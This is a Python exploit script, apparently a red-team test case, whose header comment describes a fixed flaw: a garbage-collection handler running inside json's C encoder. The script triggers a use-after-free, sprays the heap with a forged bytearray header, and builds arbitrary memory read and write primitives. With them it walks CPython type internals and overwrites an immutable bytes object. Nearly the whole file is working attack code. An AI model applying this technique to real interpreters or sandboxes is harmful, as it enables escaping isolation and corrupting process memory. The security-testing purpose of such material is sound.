# technique: the collection timer's Python signal handler also ran inside C code (PyErr_CheckSignals at the start of PyObject_Repr): json's encoder passed a borrowed list item to default=repr, a collection's __del__ cleared the list, and the freed bytearray's block came back as a fake bytearray over all memory (red-team passes 73/74; collections now run as a pending call at the eval breaker only)
# expect: any
import json, struct
BA_TYPE = 0x1001d00                 # &PyByteArray_Type: the worker is not PIE
KEEP, log, keep = [], [], []
class C(bytearray):
    __slots__ = ()
    tag = b"immutable bytes!"
    def __repr__(self):             # repr() of the fake object: it lands here as self
        KEEP.append(self)
        return "x"
class D:
    def __del__(self):
        L.clear()                   # frees the item json.dumps handed default() borrowed
        for b in SPRAY:             # refill its 64-byte block with FAKE
            b += FAKE
        log.append(1)
FILL = [1.1] * 300_000   # ~40 ms of user CPU in the encoder before the victim: a tick lands
def uaf(default, fake):
    global L, SPRAY, FAKE
    FAKE = fake
    for attempt in range(30):
        del log[:]
        SPRAY = [bytearray() for _ in range(4000)]; keep.append(SPRAY)   # never freed: no spare 64-byte blocks
        keep.append([[] for _ in range(2000)])    # gen-0 count over threshold (kept: frees count down)
        L = FILL + [bytearray(b"VICTIM")]
        d = D(); d.me = d; del d                  # cyclic garbage: only a collection runs __del__
        out = json.dumps(L, default=default, check_circular=False)
        if ", " not in out:                       # the collection ran before dumps: L was empty
            continue
        out = out[out.rindex(", ") + 2:-1]
        # (A repr reached default(): a JSON string. json's Python encoder, which now takes
        # lists holding a bytearray, stops early when the list is cleared: a number.)
        if log and "VICTIM" not in out and out.startswith('"') and (default is not repr or FAKE[8:16] == struct.pack("<Q", BA_TYPE) or KEEP):
            return out
    raise RuntimeError("no collection inside the encoder")
def fake_ba(tp, addr, n):
    return struct.pack("<qQqqQQq", 1 << 40, tp, n, n + 1, addr, addr, 0) + bytes(7)
def unrepr(r):
    # r is "bytearray(b'...')" (or C(b'...')): decode the bytes literal by hand
    body = r[r.index("(") + 3:-2]
    out, i = bytearray(), 0
    esc = {"\\": 92, "'": 39, '"': 34, "t": 9, "n": 10, "r": 13}
    while i < len(body):
        c = body[i]
        if c == "\\":
            e = body[i + 1]
            if e == "x":
                out.append(int(body[i + 2:i + 4], 16)); i += 4; continue
            out.append(esc[e]); i += 2; continue
        out.append(ord(c)); i += 1
    return bytes(out)
def read(addr, n):
    return unrepr(json.loads(uaf(repr, fake_ba(BA_TYPE, addr, n))))
def q(b, off):
    return struct.unpack_from("<Q", b, off)[0]

t = read(BA_TYPE, 408)
subs = q(t, 360)                         # PyByteArray_Type.tp_subclasses: {address: weakref}
d = read(subs, 48)
keys = read(q(d, 32), 32)
log2_index = keys[9]; nentries = q(keys, 24)
ent = read(q(d, 32) + 32 + (1 << log2_index), 24 * nentries)
addr_C = None
for i in range(nentries):
    wr = q(ent, 24 * i + 16)
    if not wr:
        continue
    tp = q(read(wr, 24), 16)                # weakref -> wr_object: the subclass
    name = read(q(read(tp, 32), 24), 2)
    if name == b"C\x00":
        addr_C = tp
uaf(repr, fake_ba(addr_C, 0, 1 << 62))   # repr(fake C instance): C.__repr__ gets it as self
M = KEEP[0]                             # a C instance over all memory, len 2**62
print(type(M).__name__, len(M) == 1 << 62, bytes(M[0x400000:0x400004]))
# a write: find C.tag (an immutable bytes) through C's dict and change its first byte
cd = q(M[addr_C + 264:addr_C + 272], 0)           # tp_dict
keys = q(M[cd + 32:cd + 40], 0)                   # ma_keys (unicode keys: 16-byte entries)
ents = keys + 32 + (1 << M[keys + 9])
for j in range(q(M[keys + 24:keys + 32], 0)):
    k, v = q(M[ents + 16 * j:ents + 16 * j + 8], 0), q(M[ents + 16 * j + 8:ents + 16 * j + 16], 0)
    if k and bytes(M[k + 48:k + 51]) == b"tag":   # compact ASCII str data at +48
        M[v + 32] = ord("I")                      # bytes data at +32
C.tag
